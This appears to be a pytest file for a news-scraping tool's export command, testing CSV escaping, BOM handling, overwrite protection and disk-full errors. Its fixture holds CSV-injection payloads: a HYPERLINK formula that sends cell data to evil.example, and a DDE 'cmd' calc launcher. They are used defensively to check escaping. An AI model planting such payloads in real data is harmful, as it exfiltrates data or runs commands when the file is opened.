"""`mediawatch export`: what an analyst opens in a spreadsheet is what was scraped, and nothing runs."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from storage.repository import Repository
from tests.conftest import run_cli, write_config
from tests.digest.support import store

# A cell a spreadsheet reads as a formula when it starts with one of = + - @ (or a tab or CR
# before one): any site can put such a headline in its feed.
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"六小龙 click")',
    "text": "+cmd|' /C calc'!A0 六小龙",
}


def test_csv_export_keeps_a_scraped_formula_from_running_in_a_spreadsheet(
    tmp_path: Path, database_url: str, repository: Repository
) -> None:
    # A headline "=HYPERLINK(…)" was written as is: Excel and LibreOffice ran it when the analyst
    # opened the export (CSV injection). A leading apostrophe makes them show it as text.
    store(repository, FORMULAS["title"], text=FORMULAS["text"])
    store(repository, "-5% 南京与杭州的差距", text="@南京 六小龙")
    store(repository, "南京为何养不出“六小龙”", text="南京与杭州的差距，六小龙之问。")
    config = write_config(tmp_path / "mediawatch.toml", {
        "database": {"url": database_url}, "topics": [{"name": "nanjing-six-dragons", "keywords": ["六小龙"]}]})

    exported = run_cli("export", "--format", "csv", config=config)
    assert exported.returncode == 0, exported.stderr
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
    cells = sorted((row["title"], row["text"]) for row in rows.values())
    assert cells == sorted([
        ("'" + FORMULAS["title"], "'" + FORMULAS["text"]),
        ("'-5% 南京与杭州的差距", "'@南京 六小龙"),
        ("南京为何养不出“六小龙”", "南京与杭州的差距，六小龙之问。"),  # ordinary text is untouched
    ])
    for row in rows.values():
        assert row["url"].startswith("https://"), row
        assert not row["published"].startswith("'"), row

    # JSON Lines is data, not a sheet: it keeps every value exactly as scraped.
    exported = run_cli("export", "--format", "jsonl", config=config)
    assert exported.returncode == 0, exported.stderr
    titles = {json.loads(line)["title"] for line in exported.stdout.splitlines()}
    assert FORMULAS["title"] in titles and "-5% 南京与杭州的差距" in titles


def test_a_csv_file_starts_with_a_utf8_bom_so_excel_reads_chinese_and_stdout_does_not(
    tmp_path: Path, database_url: str, repository: Repository
) -> None:
    # Excel opens a CSV file without a BOM in the system's ANSI code page: "南京为何养不出六小龙"
    # showed as "鍗椾含..." mojibake. A file from -o starts with the UTF-8 BOM, which Excel and
    # LibreOffice take as "this is UTF-8"; stdout (a pipe into another program) stays plain UTF-8.
    store(repository, "南京为何养不出六小龙", text="南京与杭州的差距，六小龙之问。")
    config = write_config(tmp_path / "mediawatch.toml", {
        "database": {"url": database_url}, "topics": [{"name": "nanjing-six-dragons", "keywords": ["六小龙"]}]})
    target = tmp_path / "articles.csv"

    assert run_cli("export", "--format", "csv", "-o", str(target), config=config).returncode == 0
    piped = run_cli("export", "--format", "csv", config=config)
    assert run_cli("export", "-o", str(tmp_path / "articles.jsonl"), config=config).returncode == 0

    assert target.read_bytes().startswith(b"\xef\xbb\xbfid,url,")
    [row] = csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"), newline=""))
    assert row["title"] == "南京为何养不出六小龙"
    assert piped.returncode == 0 and piped.stdout.startswith("id,url,"), piped.stdout[:20]
    assert (tmp_path / "articles.jsonl").read_bytes().startswith(b"{")  # JSON Lines is not for spreadsheets


def test_export_refuses_to_write_over_the_database_or_the_configuration(tmp_path: Path) -> None:
    # `export -o data/mediawatch.db` (meant as a backup, say) truncated the database and wrote
    # JSON Lines into it, and `-o mediawatch.toml` replaced the configuration: both were lost.
    config = write_config(tmp_path / "mediawatch.toml", {
        "database": {"url": "sqlite:///data/mediawatch.db"}, "topics": [{"name": "t", "keywords": ["六小龙"]}]})
    assert run_cli("db", "upgrade", config=config, cwd=tmp_path).returncode == 0
    database = tmp_path / "data" / "mediawatch.db"
    before = config.read_bytes()
    for target, named in ((str(database), "database"), ("data/mediawatch.db", "database"),
                          (str(config), "configuration"), ("data/../mediawatch.toml", "configuration")):
        result = run_cli("export", "-o", target, config=config, cwd=tmp_path)
        assert result.returncode == 2, (target, result.stderr)
        assert f"is the {named} file" in result.stderr and len(result.stderr.splitlines()) == 2, result.stderr
    assert config.read_bytes() == before
    status = run_cli("status", config=config, cwd=tmp_path)
    assert "not a database" not in status.stderr and status.returncode in (0, 1), status.stderr
    assert run_cli("export", "-o", "backup.jsonl", config=config, cwd=tmp_path).returncode == 0


def test_export_to_dash_writes_to_stdout(tmp_path: Path, database_url: str, repository: Repository) -> None:
    # `-o -` wrote a file named "-" in the current folder, as `classify -` reads stdin.
    store(repository, "南京为何养不出“六小龙”", text="南京与杭州的差距，六小龙之问。")
    config = write_config(tmp_path / "mediawatch.toml", {
        "database": {"url": database_url}, "topics": [{"name": "nanjing-six-dragons", "keywords": ["六小龙"]}]})
    exported = run_cli("export", "-o", "-", config=config, cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    assert [json.loads(line)["title"] for line in exported.stdout.splitlines()] == ["南京为何养不出“六小龙”"]
    assert not (tmp_path / "-").exists()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full (a device that is always full)")
def test_a_full_disk_names_the_export_file(tmp_path: Path, database_url: str, repository: Repository) -> None:
    # It said only "mediawatch: No space left on device": which of the files a script writes was not said.
    store(repository, "南京为何养不出“六小龙”", text="南京与杭州的差距，六小龙之问。")
    config = write_config(tmp_path / "mediawatch.toml", {
        "database": {"url": database_url}, "topics": [{"name": "nanjing-six-dragons", "keywords": ["六小龙"]}]})
    for fmt in ("jsonl", "csv"):
        exported = run_cli("export", "--format", fmt, "-o", "/dev/full", config=config)
        assert exported.returncode == 1, exported.stderr
        assert exported.stderr.strip() == "mediawatch: /dev/full: No space left on device", exported.stderr
